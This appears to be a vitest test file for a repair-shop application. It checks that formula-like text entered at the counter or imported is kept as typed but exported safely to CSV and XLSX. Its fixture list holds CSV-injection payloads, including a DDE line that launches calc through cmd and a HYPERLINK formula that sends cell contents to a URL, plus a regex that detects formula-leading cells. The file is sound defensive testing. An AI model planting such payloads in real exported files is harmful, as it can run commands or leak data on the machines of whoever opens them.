import { randomUUID } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import type { CustomerInput } from '#contract/customers.ts'
import type { ImportProfile } from '#contract/import-profile.ts'
import { openTable } from '#host/tabular/open-table.ts'
import { toCsv } from '#host/tabular/write-csv.ts'
import { toXlsx } from '#host/tabular/write-xlsx.ts'
import { inspect, take, useShop } from '../imports/kit.ts'
import { intakeOf } from '../kit/intake.ts'
import { collect, csvText, useFixtures } from '../kit/tabular-fixtures.ts'

/*
 * Words that a spreadsheet would run. The shop keeps them as they were typed, and no file that leaves it lets a
 * spreadsheet run them.
 */
const shop = useShop()
const fixture = useFixtures()

const texts = [
  '=1+1',
  '=HYPERLINK("http://example.org/?"&A1,"Details")',
  "=cmd|' /c calc'!A1",
  '+1-2',
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  '＝1+1',
  "'=1+1",
]

describe.each(texts)('%s', (typed) => {
  test('typed at the counter is kept, shown and found as it was typed', async () => {
    const { client } = shop.seat()
    const intake = await intakeOf(shop.seat())
    const [item] = intake.items
    if (!item) throw new Error('an intake has a device')
    Object.assign(item.visit, { faultText: typed, otherReference: typed, internalNote: typed })
    const { repairs } = await client.repairs.receive({ commandId: randomUUID(), ...intake })
    const kept = await client.repairs.get({ uid: repairs[0]?.uid ?? '' })
    expect(kept).toMatchObject({ faultText: typed, otherReference: typed, internalNote: typed })
    const customer = await client.customers.create({ commandId: randomUUID(), ...person(typed) })
    expect(await client.customers.get({ uid: customer.uid })).toMatchObject({ name: typed, notes: typed })
  })

  test('among the rows an import has refused is guarded, and read back as it was', async () => {
    const seat = shop.seat()
    const rows = [
      ['no', 'name', 'phone', 'notes'],
      ['1', 'Anna', 'call me', typed],
    ]
    const file = await inspect(seat, 'own.csv', csvText(rows, { quoteAll: true }))
    // What a guarded file says is what was meant: one apostrophe is taken off on the way in.
    const read = typed.startsWith("'") ? typed.slice(1) : typed
    const { run, rejects } = await take(seat, file, customers, true)
    expect(rejects).toMatchObject([{ line: 2, field: 'phones', code: 'field.phone' }])
    expect(rejects[0]?.cells.at(-1)).toBe(read)
    const refused = await seat.client.imports.rejectsFile({ runId: run.id })
    const table = await openTable(await fixture('rejects.csv', await refused.text()))
    const [batch] = await collect(table.batches(10))
    expect(batch?.rows[0]?.cells.at(-1)).toBe(read)
    expectHarmless((await refused.text()).split('\r\n')[1] ?? '')
  })

  test('in a CSV file has an apostrophe before it', async () => {
    const written = (await collect(toCsv([[typed]]))).join('')
    expect(written.replace('\ufeff', '')).toMatch(/^"?'/)
  })

  test('in a spreadsheet is a cell of text, not a formula', async () => {
    const book = await toXlsx('Words', [{ heading: 'fault', kind: 'text' }], [[typed]])
    const table = await openTable(await fixture('words.xlsx', book))
    const [batch] = await collect(table.batches(10))
    expect(batch?.rows[0]?.cells).toEqual([typed])
  })
})

/** No cell of a line of CSV begins as a formula does. */
function expectHarmless(line: string): void {
  expect(line).not.toMatch(/(?:^|,)"?[=+\-@＝](?!\d+(?:\.\d+)?(?:,|$))/)
}

function person(words: string): CustomerInput {
  return {
    kind: 'person',
    name: words,
    phones: [],
    email: null,
    contacts: [],
    address: words,
    taxNumber: '',
    language: null,
    tier: 'normal',
    channel: 'none',
    consentToContact: false,
    notes: words,
    onAccount: false,
    paymentDays: 0,
  }
}

const customers: ImportProfile = {
  id: 'formulas',
  name: { zh: '公式', en: 'Formulas' },
  target: 'customers',
  sourceKey: ['no'],
  columns: [
    { column: 'name', field: 'name' },
    { column: 'phone', field: 'phones' },
    { column: 'notes', field: 'notes' },
  ],
}
